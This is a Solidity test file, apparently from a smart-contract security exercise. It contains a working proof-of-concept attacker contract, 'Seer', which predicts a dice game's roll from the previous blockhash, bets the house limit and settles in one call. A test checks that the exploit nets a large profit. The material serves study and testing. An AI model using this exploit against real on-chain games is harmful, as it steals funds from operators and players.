// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Beacon} from "../predictable-randomness/src/Beacon.sol";
import {DiceHouse} from "../predictable-randomness/src/DiceHouse.sol";
import {Token} from "../../shared/Erc20.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
}

/// Works out what the die will show, bets as much as it may on that, and has it rolled.
contract Seer {
    function run(DiceHouse house, Token chip, uint256 rounds) external {
        chip.approve(address(house), type(uint256).max);
        for (uint256 i = 0; i < rounds; ++i) {
            uint256 id = house.placed() + 1;
            bytes32 word = blockhash(block.number - 1);
            uint8 side = uint8(uint256(keccak256(abi.encode(word, id))) % house.SIDES()) + 1;
            house.place(side, house.limit());
            house.settle(id);
        }
    }
}

contract PredictableRandomnessTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant CAROL = address(0xCA401);

    event Profit(uint256 chips);

    Token private chip;
    Beacon private beacon;
    DiceHouse private house;
    Seer private seer;

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.roll(20_000_000);
        chip = new Token("Chip", "CHIP");
        beacon = new Beacon(address(this), 0x28eb40a499256ad3384da1981625bc0f67e28b1c34125b657490b5056d5f85c9);
        house = new DiceHouse(chip, beacon);
        seer = new Seer();
        chip.mint(address(this), 2_500_000 ether);
        chip.mint(ALICE, 90_000 ether);
        chip.mint(BOB, 70_000 ether);
        chip.mint(CAROL, 40_000 ether);
        chip.mint(address(seer), 50_000 ether);
        chip.approve(address(house), 1e60);
        house.fund(2_000_000 ether);
        _place(ALICE, 3, 5_000 ether);
        _place(BOB, 5, 4_000 ether);
        beacon.reveal(0xef6b932f18917a13f61926fce48d441b63c5262207ae421aa73dd26c1d636689);
        house.settle(1);
        house.settle(2);
        _place(CAROL, 8, 2_500 ether);
        _place(ALICE, 2, 3_000 ether);
        beacon.reveal(0xf03a38b8c89a51245443ca966cafae1c0b5475968ea239570b7d2398c6b5f209);
        house.settle(4);
        vm.roll(20_000_010);
    }

    function _place(address who, uint8 side, uint256 stake) private {
        vm.startPrank(who);
        chip.approve(address(house), 1e60);
        house.place(side, stake);
        vm.stopPrank();
    }

    function test_attack_pays() public {
        require(house.free() == 1_963_800 ether, "another set-up");
        seer.run(house, chip, 4);
        uint256 profit = chip.balanceOf(address(seer)) - 50_000 ether;
        emit Profit(profit);
        require(profit > 482_000 ether, "little");
    }
}
